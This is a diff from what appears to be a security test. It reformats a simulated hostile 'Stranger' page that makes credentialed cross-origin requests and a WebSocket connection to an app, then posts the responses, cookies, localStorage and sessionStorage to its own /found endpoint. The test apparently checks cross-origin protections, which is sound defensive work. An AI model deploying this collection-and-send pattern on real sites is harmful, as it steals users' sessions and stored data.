@@ -11,11 +11,25 @@ async function startStranger(app: string) {
   const html = `<!doctype html><title>Stranger</title><script>
     const said = [];
     const tell = (text) => said.push(String(text));
-    const call = (options) => fetch('${app}/api/app.about', { method: 'POST', body: '{}', ...options }).then((answer) => answer.text()).then(tell, tell);
+    const call = (options) => fetch('${app}/api/app.about', { method: 'POST', body: '{}', ...options })
+          .then((answer) => answer.text())
+          .then(tell, tell);
     const socket = new WebSocket('${app.replace('http', 'ws')}/events', ['${eventProtocol}', 'guess']);
-    const closed = new Promise((resolve) => { socket.onclose = () => resolve('closed'); socket.onopen = () => resolve('OPEN'); });
-    Promise.all([call({ credentials: 'include', headers: { 'content-type': 'application/json' } }), call({ mode: 'no-cors', credentials: 'include' }), closed.then(tell)])
-      .then(() => fetch('/found', { method: 'POST', body: JSON.stringify({ said, cookie: document.cookie, stored: { ...localStorage, ...sessionStorage }, opener: String(window.opener), name: window.name }) }))
+    const closed = new Promise((resolve) => {
+      socket.onclose = () => resolve('closed');
+      socket.onopen = () => resolve('OPEN');
+    });
+    Promise.all([
+      call({ credentials: 'include', headers: { 'content-type': 'application/json' } }),
+      call({ mode: 'no-cors', credentials: 'include' }),
+      closed.then(tell),
+    ])
+      .then(() => {
+        const { cookie } = document;
+        const stored = { ...localStorage, ...sessionStorage };
+        const body = JSON.stringify({ said, cookie, stored, opener: String(window.opener), name: window.name });
+        return fetch('/found', { method: 'POST', body });
+      })
       .then(() => { document.title = 'Done'; });
   </script>`;
   const server = createServer((request, response) => {
